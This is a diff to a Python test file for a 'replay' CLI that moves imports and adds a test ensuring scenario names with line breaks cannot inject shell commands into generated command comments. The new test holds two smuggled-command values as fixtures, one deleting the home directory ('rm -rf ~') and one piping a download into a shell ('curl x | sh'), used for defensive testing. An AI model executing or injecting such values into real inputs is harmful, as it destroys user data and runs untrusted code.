@@ -13,7 +13,7 @@ from click.testing import CliRunner
 
 from analysis.figure_files import file_stem
 from replay.cli import main
-from replay.report.builder import build_report
+from analysis.report.builder import build_report
 
 SCENARIOS = {
     "stick_3step": (),
@@ -112,7 +112,7 @@ def test_the_commands_run_a_shipped_scenario_and_say_what_differs():
     re-run from its nearest shipped scenario, never by a name ``replay run`` cannot find."""
     from types import SimpleNamespace
 
-    from replay.report.builder import _commands
+    from analysis.report.builder import _commands
 
     sec = SimpleNamespace(
         key="namiki2003",
@@ -140,3 +140,31 @@ def test_the_commands_run_a_shipped_scenario_and_say_what_differs():
         "replay run z --seed 0 -o out/logs/z.mcap   # z is not shipped; its scenario is in its"
         " log (replay info)",
     ]
+
+
+def test_a_line_break_in_a_name_or_label_never_ends_the_commands_comment():
+    """The comment after a command quotes a log's name and values: a line break there would make
+    the rest of it a shell command of its own when the block is pasted (in the command itself
+    it is quoted, one shell word)."""
+    from types import SimpleNamespace
+
+    from analysis.report.builder import _commands
+
+    evil = "catch\nrm -rf ~"
+    sec = SimpleNamespace(
+        key="namiki2003",
+        runs=[("a", 0, ""), ("b", 0, "")],
+        scenarios={
+            "a": (evil, "", ""),
+            "b": ("catch_optimised", "friction 1\ncurl x | sh", "catch_optimised"),
+        },
+        falsifiers=(),
+        ablations=[],
+        claims=[],
+    )
+    import shlex
+
+    for command in _commands([sec], []):
+        head, _, comment = command.partition("   # ")
+        assert "\n" not in comment, command  # (a quoted line break in the name is one word)
+        assert shlex.split(head)[0] == "replay" and len(shlex.split(head)) < 8, command
